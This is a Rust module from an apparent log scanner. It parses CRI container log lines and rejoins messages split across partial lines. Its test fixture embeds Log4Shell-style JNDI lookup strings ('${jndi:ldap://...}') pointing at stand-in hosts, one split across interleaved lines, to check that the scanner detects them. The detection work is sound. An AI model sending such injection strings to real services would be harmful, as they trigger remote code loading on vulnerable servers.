//! CRI logs (containerd, CRI-O, Kubernetes `/var/log/pods`): `<RFC 3339> <stream> <P|F>
//! <msg>` per line; `P` lines are parts of one message, joined per stream up to the `F` line
//! (across rotated files too). The record's time and stream are the line's, its offset the
//! message's; a line that is not CRI is searched as text.

use super::{first_line, without_bom, Cutter, Framing};
use crate::logscan::records::{trim_cr, Line, Records};
use crate::model::{Rfc3339Memo, Timestamp};

/// The CRI log format.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Cri;

impl Framing for Cri {
    fn name(&self) -> &'static str {
        "cri"
    }

    fn sniff(&self, head: &[u8]) -> bool {
        split_cri(first_line(without_bom(head)), &mut Rfc3339Memo::default()).is_some()
    }

    fn cutter(&self) -> Box<dyn Cutter> {
        Box::<CriCutter>::default()
    }

    fn rotated(&self) -> bool {
        true
    }

    fn parts_carried(&self) -> bool {
        true
    }
}

/// A CRI log's reader: its lines' times parsed in turn.
#[derive(Default)]
struct CriCutter {
    times: Rfc3339Memo,
}

impl Cutter for CriCutter {
    fn line(&mut self, line: Line<'_>, out: &mut Records<'_>) {
        let raw = trim_cr(line.bytes);
        let Some((time, stream, partial, msg)) = split_cri(raw, &mut self.times) else {
            // Not a CRI line (a stray line in the file): searched as text.
            if !raw.is_empty() {
                out.count_record(None, b"");
            }
            if out.is_candidate(raw) {
                out.text_record(raw, line.number, line.offset);
            }
            return;
        };
        out.count_record(Some(time), stream.as_bytes());
        let msg_offset = line.offset + (raw.len() - msg.len()) as u64;
        out.join_part(stream, stream, msg, partial, line.number, msg_offset, Some(time));
    }
}

/// One CRI log line split into (time, stream, partial, message), if it is one.
fn split_cri<'a>(line: &'a [u8], times: &mut Rfc3339Memo) -> Option<(Timestamp, &'a str, bool, &'a [u8])> {
    let mut parts = line.splitn(4, |c| *c == b' ');
    let time = parts.next().filter(|t| t.get(10) == Some(&b'T'))?;
    let time = times.parse(time)?;
    let stream = match parts.next()? {
        b"stdout" => "stdout",
        b"stderr" => "stderr",
        _ => return None,
    };
    let partial = match parts.next()? {
        b"P" => true,
        b"F" => false,
        _ => return None,
    };
    Some((time, stream, partial, parts.next().unwrap_or_default()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::logscan::engine::Engine;
    use crate::logscan::records::ScanConfig;
    use crate::logscan::stream::scan_stream;
    use crate::model::Locator;

    #[test]
    fn cri_partial_lines_are_joined_per_stream_before_matching() {
        // containerd splits long messages into `P` parts ended by an `F` line; a payload
        // cut across them, with the other stream interleaved, is found once, on the line
        // where the message starts, with its time and stream.
        let log = b"2026-11-27T14:00:00.100000000Z stdout F GET / 200\n\
2026-11-27T14:00:01.000000000Z stdout P 10.0.0.9 - - \"GET /?q=${jn\n\
2026-11-27T14:00:01.000000001Z stderr F unrelated warning\n\
2026-11-27T14:00:01.000000002Z stdout P di:ldap://cri.example:1389/\n\
2026-11-27T14:00:01.000000003Z stdout F a} HTTP/1.1\" 200\n\
not a cri line ${jndi:ldap://stray.example/x}\n";
        let engine = Engine::builtin().unwrap();
        let loc = Locator::artifact("0.log");
        for buf_size in [80, 1 << 20] {
            let cfg = ScanConfig { buf_size, max_record: 64, ..Default::default() };
            let scan = scan_stream(&log[..], &Cri, &engine, &cfg, &loc, 0);
            let jndi: Vec<_> = scan
                .hits
                .iter()
                .filter(|h| h.found.jndi.is_some())
                .map(|h| (h.locator.line, h.stream.clone()))
                .collect();
            assert_eq!(jndi, [(Some(2), Some("stdout".to_string())), (Some(6), None)], "buf {buf_size}");
            let first = scan.hits.iter().find(|h| h.locator.line == Some(2)).unwrap();
            assert_eq!(first.time.map(|t| t.to_iso()).as_deref(), Some("2026-11-27T14:00:01.000000000Z"));
            assert_eq!(first.found.jndi.as_ref().unwrap().host.as_deref(), Some("cri.example"));
        }
    }
}
